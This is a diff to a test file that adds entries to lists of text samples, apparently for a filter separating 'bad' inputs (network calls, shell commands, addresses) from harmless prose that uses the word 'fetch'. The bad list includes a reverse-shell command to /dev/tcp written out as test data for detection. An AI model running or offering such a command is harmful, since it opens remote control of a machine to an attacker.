@@ -72,6 +72,9 @@ BAD = [
     ("crontab -e", "own_files"),
     ("curl https://api.example.com/v1", "network"),
     ("import x; requests.post(url)", "network"),
+    ("const page = await fetch(address)", "network"),
+    ("fetch -o list.txt ftp://x.example/a", "network"),
+    ("fetch $ADDRESS", "network"),
     ("bash -i >& /dev/tcp/1.2.3.4/99", "network"),
     ("see https://example.com/help", "address"),
     (f"data = {_BLOB}", "blob"),
@@ -99,6 +102,8 @@ GOOD = [
     "The cat sat; rm old lines from the list.",
     "记录以前的规则，然后告诉用户",
     "Use 7 zip codes",
+    'Fetch the page and write down the "title" - and nothing else.',
+    "Then fetch what the person calls 'the list' from the notes.",
 ]
 
 
